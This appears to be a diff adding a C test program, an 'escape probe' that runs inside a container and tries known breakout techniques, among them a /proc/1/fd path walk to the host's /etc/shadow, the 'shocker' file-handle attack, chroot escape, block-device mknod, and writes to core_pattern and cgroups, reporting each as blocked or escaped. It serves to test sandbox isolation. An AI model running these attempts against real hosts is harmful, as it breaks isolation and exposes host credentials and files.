@@ -1,0 +1,253 @@
+/*
+ * The escape probe: run inside a container, it tries what an attacker in the container would
+ * to reach the host, and prints one line per attempt:
+ *
+ *     NAME: blocked (REASON)      the attempt failed, as it must
+ *     NAME: ESCAPED: DETAIL       the attempt reached something of the host
+ *
+ * It exits with the number of escapes. CANARY names a file that exists on the host only; any
+ * way of opening it from inside is an escape. Built static by the tests (`cc -static`).
+ */
+#define _GNU_SOURCE
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <linux/bpf.h>
+#include <linux/perf_event.h>
+#include <sched.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mount.h>
+#include <sys/stat.h>
+#include <sys/syscall.h>
+#include <sys/sysmacros.h>
+#include <unistd.h>
+
+static int escapes;
+
+static void blocked(const char *name, int err) { printf("%s: blocked (%s)\n", name, strerror(err)); }
+static void escaped(const char *name, const char *detail) { printf("%s: ESCAPED: %s\n", name, detail); escapes++; }
+
+/* An attempt that must fail: rc < 0 is blocked. */
+static void expect_fail(const char *name, long rc) {
+    if (rc < 0) blocked(name, errno);
+    else escaped(name, "the call succeeded");
+}
+
+static void fd_link(const char *dir, const char *entry, char *out, size_t n) {
+    char p[512];
+    snprintf(p, sizeof p, "%s/%s", dir, entry);
+    ssize_t r = readlink(p, out, n - 1);
+    out[r < 0 ? 0 : r] = 0;
+}
+
+/* Every fd from 3 to 1023 of this process, and every fd >= 3 of every other process. */
+static void fds(void) {
+    int found = 0;
+    for (int fd = 3; fd < 1024; fd++) {
+        if (fcntl(fd, F_GETFD) < 0) continue;
+        char p[64], target[512];
+        snprintf(p, sizeof p, "%d", fd);
+        fd_link("/proc/self/fd", p, target, sizeof target);
+        char detail[700];
+        snprintf(detail, sizeof detail, "own fd %d -> %s", fd, target);
+        escaped("inherited-fd", detail);
+        found = 1;
+    }
+    if (!found) blocked("inherited-fd", EBADF);
+
+    found = 0;
+    DIR *proc = opendir("/proc");
+    if (!proc) { escaped("process-fds", "cannot list /proc"); return; }
+    int self = getpid();
+    struct dirent *d;
+    while ((d = readdir(proc))) {
+        int pid = atoi(d->d_name);
+        if (pid <= 0 || pid == self) continue;
+        char dir[64];
+        snprintf(dir, sizeof dir, "/proc/%d/fd", pid);
+        DIR *fdd = opendir(dir);
+        if (!fdd) continue;
+        struct dirent *f;
+        while ((f = readdir(fdd))) {
+            if (f->d_name[0] == '.' || atoi(f->d_name) < 3) continue;
+            char target[512], detail[1024];
+            fd_link(dir, f->d_name, target, sizeof target);
+            snprintf(detail, sizeof detail, "pid %d fd %s -> %s", pid, f->d_name, target);
+            escaped("process-fds", detail);
+            found = 1;
+        }
+        closedir(fdd);
+    }
+    closedir(proc);
+    if (!found) blocked("process-fds", EBADF);
+}
+
+/* The reported attack: through a directory fd of pid 1, up to the host's /etc and /tmp. */
+static void proc1_fd_walk(void) {
+    int read_ok = 0, write_ok = 0;
+    for (int fd = 3; fd < 1024; fd++) {
+        char p[128];
+        snprintf(p, sizeof p, "/proc/1/fd/%d/../../etc/shadow", fd);
+        int f = open(p, O_RDONLY);
+        if (f >= 0) { close(f); read_ok = 1; }
+        snprintf(p, sizeof p, "/proc/1/fd/%d/../../tmp/ESCAPED", fd);
+        f = open(p, O_WRONLY | O_CREAT, 0644);
+        if (f >= 0) { close(f); write_ok = 1; }
+    }
+    if (read_ok) escaped("proc1-fd-read", "read a file through /proc/1/fd/N/../.."); else blocked("proc1-fd-read", ENOENT);
+    if (write_ok) escaped("proc1-fd-write", "created a file through /proc/1/fd/N/../.."); else blocked("proc1-fd-write", ENOENT);
+}
+
+static void canary(const char *path) {
+    if (!path || !*path) return;
+    const char *prefixes[] = { "", "/proc/1/root", "/proc/1/cwd", "/proc/self/root", "/proc/1/root/../../.." };
+    for (size_t i = 0; i < sizeof prefixes / sizeof prefixes[0]; i++) {
+        char p[1024], name[64];
+        snprintf(p, sizeof p, "%s%s", prefixes[i], path);
+        snprintf(name, sizeof name, "canary%s", prefixes[i]);
+        int f = open(p, O_RDONLY);
+        if (f >= 0) { close(f); escaped(name, p); } else blocked(name, errno);
+    }
+    /* chroot out of a chroot: with pivot_root and the old root detached, / is the top. */
+    mkdir("/tmp/.probe-chroot", 0700);
+    int cwd = open("/", O_PATH | O_DIRECTORY);
+    if (chroot("/tmp/.probe-chroot") == 0) {
+        for (int i = 0; i < 32; i++) if (chdir("..") != 0) break;
+        if (chroot(".") == 0) {
+            int f = open(path, O_RDONLY);
+            if (f >= 0) { close(f); escaped("chroot-breakout", path); } else blocked("chroot-breakout", errno);
+        } else blocked("chroot-breakout", errno);
+        if (cwd >= 0) { fchdir(cwd); chroot("."); }
+    } else blocked("chroot-breakout", errno);
+    if (cwd >= 0) close(cwd);
+}
+
+static void exe_overwrite(void) {
+    expect_fail("proc-self-exe-write", open("/proc/self/exe", O_WRONLY));
+    expect_fail("proc1-exe-write", open("/proc/1/exe", O_WRONLY));
+}
+
+static void handles(void) {
+    struct { struct file_handle h; unsigned char bytes[128]; } fh;
+    fh.h.handle_bytes = 128;
+    int mount_id;
+    int fd = open("/", O_RDONLY | O_DIRECTORY);
+    if (name_to_handle_at(AT_FDCWD, "/", &fh.h, &mount_id, 0) != 0) { blocked("open_by_handle_at", errno); return; }
+    /* The root inode of the filesystem (inode 2), the classic "shocker" handle. */
+    memset(fh.h.f_handle, 0, fh.h.handle_bytes);
+    fh.h.f_handle[0] = 2;
+    expect_fail("open_by_handle_at", syscall(SYS_open_by_handle_at, fd, &fh.h, O_RDONLY));
+    close(fd);
+}
+
+static void mounts(void) {
+    mkdir("/tmp/.probe-mnt", 0700);
+    expect_fail("mount-tmpfs", mount("tmpfs", "/tmp/.probe-mnt", "tmpfs", 0, NULL));
+    expect_fail("mount-proc", mount("proc", "/tmp/.probe-mnt", "proc", 0, NULL));
+    expect_fail("mount-cgroup", mount("cgroup", "/tmp/.probe-mnt", "cgroup", 0, "memory"));
+    expect_fail("remount-sys-rw", mount(NULL, "/sys", NULL, MS_REMOUNT | MS_BIND, NULL));
+    expect_fail("umount-proc-sys", umount2("/proc/sys", MNT_DETACH));
+    expect_fail("unshare-user", unshare(CLONE_NEWUSER));
+    expect_fail("unshare-mount", unshare(CLONE_NEWNS));
+    expect_fail("unshare-user-mount", unshare(CLONE_NEWUSER | CLONE_NEWNS));
+}
+
+/* mknod every block device the host has (listed in /sys/dev/block) and open it. */
+static void block_devices(void) {
+    DIR *d = opendir("/sys/dev/block");
+    int tried = 0;
+    if (!d) { blocked("block-device", errno); return; }
+    struct dirent *e;
+    while ((e = readdir(d))) {
+        unsigned ma, mi;
+        if (sscanf(e->d_name, "%u:%u", &ma, &mi) != 2) continue;
+        char p[64];
+        snprintf(p, sizeof p, "/tmp/.probe-blk-%u-%u", ma, mi);
+        unlink(p);
+        tried++;
+        if (mknod(p, S_IFBLK | 0600, makedev(ma, mi)) != 0) { blocked("block-device", errno); continue; }
+        int f = open(p, O_RDONLY);
+        if (f >= 0) {
+            char detail[64];
+            snprintf(detail, sizeof detail, "opened block device %u:%u", ma, mi);
+            escaped("block-device", detail);
+            close(f);
+        } else blocked("block-device", errno);
+        unlink(p);
+    }
+    closedir(d);
+    if (!tried) blocked("block-device", ENOENT);
+}
+
+static void writes(void) {
+    const char *files[] = { "/proc/sys/kernel/hostname", "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger",
+                            "/sys/kernel/uevent_helper", "/sys/kernel/mm/transparent_hugepage/enabled",
+                            "/sys/class/net/lo/mtu" };
+    for (size_t i = 0; i < sizeof files / sizeof files[0]; i++) {
+        char name[128];
+        snprintf(name, sizeof name, "write %s", files[i]);
+        expect_fail(name, open(files[i], O_WRONLY));
+    }
+    /* The container's own cgroups and the rest of the hierarchy. */
+    DIR *d = opendir("/sys/fs/cgroup");
+    if (d) {
+        struct dirent *e;
+        while ((e = readdir(d))) {
+            if (e->d_name[0] == '.') continue;
+            char p[512], name[600];
+            snprintf(p, sizeof p, "/sys/fs/cgroup/%s/cgroup.procs", e->d_name);
+            snprintf(name, sizeof name, "write %s", p);
+            expect_fail(name, open(p, O_WRONLY));
+            snprintf(p, sizeof p, "/sys/fs/cgroup/%s/probe-escape", e->d_name);
+            snprintf(name, sizeof name, "mkdir %s", p);
+            expect_fail(name, mkdir(p, 0755));
+        }
+        closedir(d);
+    }
+    expect_fail("write /sys/fs/cgroup/cgroup.procs", open("/sys/fs/cgroup/cgroup.procs", O_WRONLY));
+    expect_fail("mkdir /sys/fs/cgroup/X", mkdir("/sys/fs/cgroup/probe-escape", 0755));
+    int k = open("/proc/kcore", O_RDONLY);
+    char b[16];
+    if (k >= 0 && read(k, b, sizeof b) > 0) escaped("read /proc/kcore", "read bytes");
+    else blocked("read /proc/kcore", k < 0 ? errno : 0);
+    if (k >= 0) close(k);
+}
+
+static void syscalls(void) {
+    expect_fail("keyctl", syscall(SYS_keyctl, 1 /* KEYCTL_JOIN_SESSION_KEYRING */, "probe"));
+    expect_fail("add_key", syscall(SYS_add_key, "user", "probe", "x", 1, -2 /* KEY_SPEC_PROCESS_KEYRING */));
+    union bpf_attr attr;
+    memset(&attr, 0, sizeof attr);
+    attr.map_type = BPF_MAP_TYPE_ARRAY;
+    attr.key_size = 4;
+    attr.value_size = 4;
+    attr.max_entries = 1;
+    expect_fail("bpf", syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof attr));
+    struct perf_event_attr pe;
+    memset(&pe, 0, sizeof pe);
+    pe.type = PERF_TYPE_SOFTWARE;
+    pe.size = sizeof pe;
+    pe.config = PERF_COUNT_SW_CPU_CLOCK;
+    expect_fail("perf_event_open", syscall(SYS_perf_event_open, &pe, 0, -1, -1, 0));
+    expect_fail("init_module", syscall(SYS_init_module, NULL, 0, ""));
+    expect_fail("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0));
+    expect_fail("setns", syscall(SYS_setns, 0, 0));
+    expect_fail("settimeofday", syscall(SYS_settimeofday, NULL, NULL) == 0 ? 0 : -1);
+}
+
+int main(void) {
+    setvbuf(stdout, NULL, _IOLBF, 0);
+    fds();               /* first: before the probe opens anything itself */
+    proc1_fd_walk();
+    canary(getenv("CANARY"));
+    exe_overwrite();
+    handles();
+    mounts();
+    block_devices();
+    writes();
+    syscalls();
+    printf("escapes: %d\n", escapes);
+    return escapes > 100 ? 100 : escapes;
+}
